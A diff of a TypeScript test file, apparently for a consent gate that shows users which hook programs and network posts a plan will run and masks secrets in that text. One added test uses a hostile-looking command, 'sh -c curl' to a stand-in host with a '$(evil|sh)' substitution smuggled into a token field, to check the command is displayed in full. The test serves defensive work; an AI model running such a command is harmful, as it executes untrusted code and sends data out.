@@ -246,14 +246,24 @@ it('a kubeconfig whose path is a reference is read where it leads', () => {
   expect(items.find(({ kind }) => kind === 'program')?.text).toMatch(/^run "evil" on this machine, to log in to/);
 });
 
-it('a permission for some texts is for no others, and secrets are in none of them', () => {
+it('a program is listed with all that it does, also where that looks like a secret', () => {
+  const run = ['sh', '-c', 'curl "https://h/?token=$(evil|sh)"'];
+  const mask = new SecretMask();
+  mask.add('$(evil|sh)');
+  const { items } = gateOf({}, { mask }).consentOf(samplePlan({}, { hooks: [{ at: 'end', run: run as never }] }));
+  expect(items.map(({ text }) => text)).toEqual([
+    'at end: run "sh" "-c" "curl \\"https://h/?token=$(evil|sh)\\"" on this machine',
+  ]);
+});
+
+it('a permission for some texts is for no others, and secrets are in none but those of programs', () => {
   const mask = new SecretMask();
   mask.add('Planted-Secret-1');
   const gate = gateOf({}, { mask });
-  const hook = (word: string): Plan => samplePlan({}, { hooks: [{ at: 'end', run: ['notify', word] }] });
+  const hook = (word: string): Plan => samplePlan({}, { hooks: [{ at: 'end', post: `http://h/${word}` }] });
   const texts = gate.consentOf(hook('Planted-Secret-1')).items.map(({ text }) => text);
-  expect(texts).toEqual(['at end: run "notify" "•••" on this machine']);
+  expect(texts).toEqual([`at end: send the run's figures to http://h/•••`]);
   const permission = { items: new Set(texts), addresses: new Set<string>() };
   expect([...gate.allow(hook('Planted-Secret-1'), permission).texts]).toEqual(texts);
-  expect(() => gate.allow(hook('other'), permission)).toThrow('run "notify" "other"');
+  expect(() => gate.allow(hook('other'), permission)).toThrow('figures to http://h/other');
 });
